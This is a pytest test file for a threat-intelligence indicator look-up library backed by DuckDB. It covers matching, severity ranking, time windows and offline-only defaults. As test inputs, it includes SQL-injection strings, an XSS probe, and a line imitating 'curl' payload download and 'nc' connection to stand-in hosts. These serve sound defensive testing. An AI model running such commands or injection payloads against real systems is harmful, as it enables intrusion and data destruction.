"""Threat-intelligence look-ups against a real DuckDB store's ThreatIntelligenceIndicator table."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
import time
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pandas as pd
import pytest

from nbcatalog.data.store import Store
from nbcatalog.enrich.errors import EnrichmentError
from nbcatalog.enrich.settings import configure
from nbcatalog.enrich.ti import RESULT_COLUMNS, SEVERITY_RANK, lookup_ioc, lookup_iocs
from nbcatalog.errors import DataSourceError

pytest_plugins = ["enrich_support"]  # isolated_config, no_network
pytestmark = pytest.mark.usefixtures("isolated_config")

NOW = datetime.now(timezone.utc)
SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
SQLISH_URL = "http://evil.example/x;DROP%20TABLE%20ThreatIntelligenceIndicator;--"

# Run in a fresh interpreter by tests that check what the default paths import and touch.
NETWORK_GUARD_PRELUDE = """
import socket, sys
attempts = []
def _blocked(*a, **k):
    attempts.append(repr(a[:2]))
    raise OSError("network access in test")
socket.socket.connect = _blocked
socket.socket.connect_ex = _blocked
socket.create_connection = _blocked
socket.getaddrinfo = _blocked
socket.gethostbyname = _blocked
"""


def indicator(ind_id: str, age: timedelta = timedelta(hours=2), **cols) -> dict:
    base = {
        "TimeGenerated": NOW - age,
        "IndicatorId": ind_id,
        "Active": True,
        "ExpirationDateTime": NOW + timedelta(days=30),
        "SourceSystem": "test feed",
    }
    base.update(cols)
    return base


ROWS = [
    indicator(
        "ti-brute",
        NetworkIP="203.0.113.77",
        ThreatSeverity=5,
        ConfidenceScore=90,
        Action="alert",
        ThreatType="Botnet",
        Description="RDP brute-force source",
    ),
    indicator("ti-url", Url="http://malicious.example/payload.ps1", ConfidenceScore=60),
    indicator("ti-domain", DomainName="malicious.example", ConfidenceScore=30, ThreatType="C2"),
    indicator("ti-inactive", NetworkIP="192.0.2.200", ConfidenceScore=99, Active=False),
    indicator(
        "ti-expired",
        NetworkIP="192.0.2.201",
        ThreatSeverity=5,
        ExpirationDateTime=NOW - timedelta(days=1),
    ),
    indicator("ti-allow", NetworkIP="198.51.100.200", ConfidenceScore=95, Action="allow"),
    indicator("ti-hash", FileHashValue=SHA256.upper(), FileHashType="SHA256"),
    # Two versions of one indicator: the latest one counts.
    indicator("ti-c2", timedelta(days=2), NetworkIP="192.0.2.66", ThreatSeverity=1),
    indicator("ti-c2", timedelta(hours=1), NetworkIP="192.0.2.66", ThreatSeverity=4),
    indicator("ti-old", timedelta(days=400), NetworkIP="198.51.100.99", ConfidenceScore=90),
    indicator("ti-sqlish", Url=SQLISH_URL, ConfidenceScore=85),
    indicator("ti-v6", NetworkSourceIP="2001:db8::bad", ThreatSeverity=2),
    indicator("ti-mixed", NetworkIP="192.0.2.150", ThreatSeverity=3, ConfidenceScore=40),
]


@pytest.fixture(scope="module")
def ti_store(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("ti") / "ti.duckdb"
    with Store.open(path) as store:
        store.append("ThreatIntelligenceIndicator", pd.DataFrame(ROWS))
    return path


@pytest.fixture
def spec(ti_store) -> str:
    return f"duckdb:{ti_store}"


def by_ioc(frame: pd.DataFrame) -> dict[str, dict]:
    return {row["Ioc"]: row for row in frame.to_dict("records")}


@pytest.mark.parametrize(
    ("ioc", "severity", "detail"),
    [
        ("203.0.113.77", "high", "Botnet"),  # ThreatSeverity 5 / confidence 90
        ("http://malicious.example/payload.ps1", "warning", "confidence 60"),
        ("malicious.example", "information", "confidence 30"),
        ("192.0.2.200", "information", "inactive"),
        ("192.0.2.201", "information", "expired"),
        ("198.51.100.200", "information", "action allow"),
        (SHA256, "warning", "1 indicator"),  # a known indicator with no rating
        ("192.0.2.66", "high", "1 indicator"),  # latest version (severity 4) wins
        ("2001:db8::bad", "warning", "1 indicator"),  # source IP column, IPv6
        ("192.0.2.150", "warning", "confidence 40"),  # higher of severity 3 and confidence 40
    ],
)
def test_hits_and_severity_mapping(spec, no_network, ioc, severity, detail):
    row = by_ioc(lookup_iocs([ioc], data_source=spec))[ioc]
    assert row["Result"] is True
    assert row["Severity"] == severity
    assert detail in row["Details"]
    assert row["Provider"] == "ThreatIntelligenceIndicator"
    assert row["Status"] == 0
    assert row["Matches"] == 1
    assert no_network == []


def test_values_match_whatever_the_spelling(spec):
    res = by_ioc(
        lookup_iocs(
            ["2001:DB8:0::BAD", "HTTP://MALICIOUS.EXAMPLE/payload.ps1", "Malicious.Example."],
            data_source=spec,
        )
    )
    assert res["2001:db8::bad"]["Result"]
    assert res["HTTP://MALICIOUS.EXAMPLE/payload.ps1"]["Result"]
    assert res["malicious.example"]["Result"]


def test_misses_are_negative_informational_rows(spec):
    misses = ["8.8.8.8", "unknown.example", "d41d8cd98f00b204e9800998ecf8427e", "http://a.example/"]
    res = lookup_iocs(misses, data_source=spec)
    assert sorted(res["Ioc"]) == sorted(misses)
    assert not res["Result"].any()
    assert set(res["Severity"]) == {"information"}
    assert (res["Status"] == 0).all()
    assert res["Details"].str.startswith("not in ThreatIntelligenceIndicator").all()


def test_results_are_ranked_worst_first(spec):
    iocs = ["8.8.8.8", "malicious.example", "192.0.2.200", SHA256, "203.0.113.77", "nonsense!"]
    res = lookup_iocs(iocs, data_source=spec)
    assert list(res.columns) == RESULT_COLUMNS
    ranks = res["Severity"].map(SEVERITY_RANK).tolist()
    assert ranks == sorted(ranks, reverse=True)
    assert res.loc[0, "Ioc"] == "203.0.113.77"
    info = res[res["Severity"] == "information"]
    assert info["Result"].tolist() == sorted(info["Result"].tolist(), reverse=True)  # hits first
    assert res.iloc[-1]["Ioc"] == "nonsense!" and res.iloc[-1]["Status"] == 2


def test_hostile_values_are_literal_and_leave_the_table_untouched(spec, ti_store):
    hostile = [
        "x' OR '1'='1",
        "203.0.113.77' OR '1'='1",
        '203.0.113.77" | where 1==1',
        "'; DROP TABLE ThreatIntelligenceIndicator; --",
        "malicious.example%",
        "*",
        "a" * 100_000,
        "<script>alert(1)</script>",
    ]
    res = lookup_iocs(hostile, data_source=spec)
    assert len(res) == len(hostile)
    assert (res["Status"] == 2).all() and not res["Result"].any()
    assert res["Details"].str.contains("is not an IoC|too long").all()
    assert res["Ioc"].str.len().max() <= 200  # a huge value is not echoed whole
    # A stored URL that looks like SQL matches only itself, literally.
    res = by_ioc(lookup_iocs([SQLISH_URL, "http://evil.example/x"], data_source=spec))
    assert res[SQLISH_URL]["Result"] and res[SQLISH_URL]["Severity"] == "high"
    assert not res["http://evil.example/x"]["Result"]
    with Store.open(ti_store, read_only=True) as store:
        assert store.table_stats()["ThreatIntelligenceIndicator"].rows == len(ROWS)


def test_ioc_type_forces_a_type(spec):
    res = by_ioc(
        lookup_iocs(["malicious.example", "203.0.113.77"], ioc_type="ip", data_source=spec)
    )
    assert res["malicious.example"]["Status"] == 2
    assert "not a valid ip value" in res["malicious.example"]["Details"]
    assert res["203.0.113.77"]["Result"]
    with pytest.raises(EnrichmentError, match="unknown IoC type"):
        lookup_iocs(["203.0.113.77"], ioc_type="ipaddr-v4", data_source=spec)
    with pytest.raises(ValueError, match="is not an IoC"):
        lookup_ioc("x' OR 1=1", data_source=spec)


def test_blank_values_skipped_and_repeats_looked_up_once(spec):
    values = ["203.0.113.77", None, "", float("nan"), pd.NA, " 203.0.113.77 "]
    res = lookup_iocs(pd.Series(values, dtype=object), data_source=spec)
    assert res["Ioc"].tolist() == ["203.0.113.77"]
    assert lookup_iocs("203.0.113.77", data_source=spec)["Ioc"].tolist() == ["203.0.113.77"]
    empty = lookup_iocs([], data_source=spec)
    assert empty.empty and list(empty.columns) == RESULT_COLUMNS


def test_time_window_and_lookback(spec):
    assert not lookup_iocs(["198.51.100.99"], data_source=spec).loc[0, "Result"]
    found = lookup_iocs(["198.51.100.99"], data_source=spec, start=NOW - timedelta(days=500))
    assert found.loc[0, "Result"]
    configure({"ti": {"lookback_days": 500}})
    assert lookup_iocs(["198.51.100.99"], data_source=spec).loc[0, "Result"]
    # An end before the indicator was seen: not found.
    early = lookup_iocs(["203.0.113.77"], data_source=spec, end=NOW - timedelta(days=1))
    assert not early.loc[0, "Result"]
    with pytest.raises(EnrichmentError, match="after end"):
        lookup_iocs(["8.8.8.8"], data_source=spec, start=NOW, end=NOW - timedelta(days=1))
    with pytest.raises(EnrichmentError, match="not a time"):
        lookup_iocs(["8.8.8.8"], data_source=spec, start="last tuesday-ish")


def test_every_kind_of_data_source(ti_store, monkeypatch):
    want = ("203.0.113.77", "high")

    def top(frame):
        return tuple(frame.loc[0, ["Ioc", "Severity"]])

    assert top(lookup_iocs(["203.0.113.77"], data_source=f"duckdb:{ti_store}")) == want
    with Store.open(ti_store, read_only=True) as store:  # bound SQL straight on the store
        assert top(lookup_iocs(["203.0.113.77"], data_source=store)) == want
    # None: the configured default (here $NBCATALOG_DB, the embedded store's location).
    monkeypatch.delenv("NBCATALOG_SOURCE", raising=False)
    monkeypatch.setenv("NBCATALOG_DB", str(ti_store))
    assert top(lookup_iocs(["203.0.113.77"])) == want
    from nbcatalog.data import connect

    source = connect(f"duckdb:{ti_store}")
    assert top(lookup_iocs(["203.0.113.77"], data_source=source)) == want


def test_a_missing_store_or_bad_source_is_a_clear_error(tmp_path):
    with pytest.raises(DataSourceError, match="no data store"):
        lookup_iocs(["203.0.113.77"], data_source=f"duckdb:{tmp_path / 'nope.duckdb'}")
    with pytest.raises(EnrichmentError, match="data_source must be"):
        lookup_iocs(["203.0.113.77"], data_source=42)
    # Nothing valid to look up: no source is even opened.
    assert (
        lookup_iocs(["junk!"], data_source=f"duckdb:{tmp_path / 'nope.duckdb'}")["Status"]
        .eq(2)
        .all()
    )


def test_a_failed_query_is_reported_per_ioc_not_raised(tmp_path):
    import duckdb

    path = tmp_path / "no-ti-table.duckdb"
    con = duckdb.connect(str(path))
    con.execute("CREATE TABLE SecurityEvent (TimeGenerated TIMESTAMPTZ)")
    con.close()
    res = lookup_iocs(["203.0.113.77", "malicious.example"], data_source=f"duckdb:{path}")
    assert (res["Status"] == 3).all() and (res["Severity"] == "unknown").all()
    assert res["Details"].str.startswith("look-up failed").all()


def test_the_table_can_be_switched_off(spec):
    configure({"ti": {"table": False}})
    assert lookup_iocs(["203.0.113.77"], data_source=spec).empty


def test_thousands_of_iocs_in_one_call(spec):
    iocs = [f"198.18.{i // 256}.{i % 256}" for i in range(3000)]
    iocs += [f"host{i}.example" for i in range(1000)] + ["203.0.113.77"]
    started = time.perf_counter()
    res = lookup_iocs(iocs, data_source=spec)
    assert time.perf_counter() - started < 10
    assert len(res) == len(iocs)
    assert res.loc[0, "Ioc"] == "203.0.113.77" and res["Result"].sum() == 1


def test_many_hits_in_a_large_indicator_table(tmp_path):
    ips = [f"198.18.{i // 256}.{i % 256}" for i in range(10_000)]
    path = tmp_path / "big.duckdb"
    with Store.open(path) as store:
        store.append(
            "ThreatIntelligenceIndicator",
            pd.DataFrame(
                {
                    "TimeGenerated": NOW - timedelta(hours=1),
                    "IndicatorId": [f"big-{i}" for i in range(len(ips))],
                    "NetworkIP": ips,
                    "ConfidenceScore": 70.0,
                }
            ),
        )
    wanted = ips[::4]
    with Store.open(path, read_only=True) as store:
        for source in (f"duckdb:{path}", store):  # the query library, and bound SQL
            started = time.perf_counter()
            res = lookup_iocs(wanted, data_source=source)
            assert time.perf_counter() - started < 10
            assert len(res) == len(wanted)
            assert res["Result"].all(), res["Details"].iloc[0]
            assert set(res["Severity"]) == {"warning"}


def run_guarded(code: str, env: dict[str, str]) -> dict:
    """Run `code` in a fresh interpreter with sockets blocked; it prints one JSON line last."""
    script = NETWORK_GUARD_PRELUDE + textwrap.dedent(code)
    done = subprocess.run(
        [sys.executable, "-c", script],
        capture_output=True,
        text=True,
        timeout=180,
        env={**os.environ, **env},
    )
    assert done.returncode == 0, done.stderr[-3000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


def test_default_paths_use_no_network_and_no_msticpy(ti_store, tmp_path):
    out = run_guarded(
        f"""
        import json, time
        started = time.perf_counter()
        from nbcatalog.enrich import geoip, iocs, ipclass, ti
        import_seconds = time.perf_counter() - started
        heavy = [m for m in ("pandas", "duckdb", "msticpy", "geoip2fast", "tldextract")
                 if m in sys.modules]
        geo = geoip.lookup_ips(["8.8.8.8", "203.0.113.77"])
        found = iocs.extract_iocs("curl http://malicious.example/payload.ps1; nc 192.0.2.66 1")
        res = ti.lookup_iocs(list(found["Ioc"]) + ["8.8.8.8"], data_source="duckdb:{ti_store}")
        print(json.dumps({{
            "import_seconds": import_seconds, "heavy_at_import": heavy,
            "country": geo.loc[0, "CountryCode"], "hits": int(res["Result"].sum()),
            "providers": sorted(set(res["Provider"])), "attempts": attempts,
            "msticpy_loaded": any(m.startswith("msticpy") for m in sys.modules),
        }}))
        """,
        {"NBCATALOG_CONFIG": str(tmp_path / "none.toml")},
    )
    assert out["attempts"] == []
    assert not out["msticpy_loaded"]
    assert out["heavy_at_import"] == []  # kernels pay for pandas/geo data only on first use
    assert out["import_seconds"] < 0.5
    assert out["country"] == "US"
    assert out["hits"] == 3  # the URL, its domain and 192.0.2.66
    assert out["providers"] == ["ThreatIntelligenceIndicator"]


def test_online_providers_only_when_configured(ti_store, tmp_path):
    mp_config = tmp_path / "msticpyconfig.yaml"
    mp_config.write_text(
        "TIProviders:\n  OTX:\n    Args:\n      AuthKey: not-a-real-key\n"
        "    Primary: True\n    Provider: OTX\n"
    )
    nb_config = tmp_path / "config.toml"
    nb_config.write_text('[enrichment.ti]\nproviders = ["OTX"]\n')
    out = run_guarded(
        f"""
        import json
        from nbcatalog.enrich import ti
        res = ti.lookup_iocs(["10.0.0.5", "203.0.113.77", "8.8.8.8", "http://10.1.1.1/a",
                              "dc01.contoso.local", "http://malicious.example/payload.ps1"],
                             data_source="duckdb:{ti_store}")
        rows = res[res["Provider"] == "OTX"].set_index("Ioc")
        print(json.dumps({{
            "otx": {{ioc: [int(r.Status), r.Details] for ioc, r in rows.iterrows()}},
            "table_hit": bool(res[(res["Ioc"] == "203.0.113.77")
                                  & (res["Provider"] == "ThreatIntelligenceIndicator")]
                              ["Result"].iloc[0]),
            "attempts": attempts,
        }}))
        """,
        {"NBCATALOG_CONFIG": str(nb_config), "MSTICPYCONFIG": str(mp_config)},
    )
    # Non-public addresses never leave the machine; a public one is sent (and blocked here).
    assert out["otx"]["10.0.0.5"] == [1, "not sent: private address"]
    assert out["otx"]["203.0.113.77"] == [1, "not sent: documentation address"]
    assert out["otx"]["http://10.1.1.1/a"] == [1, "not sent: private address"]
    assert out["otx"]["dc01.contoso.local"] == [1, "not sent: local is a local or reserved name"]
    assert out["otx"]["http://malicious.example/payload.ps1"][0] == 1
    assert out["otx"]["8.8.8.8"][0] == 3
    assert "look-up failed" in out["otx"]["8.8.8.8"][1]
    assert any("otx.alienvault.com" in a for a in out["attempts"])
    assert out["table_hit"]  # the offline table is still consulted
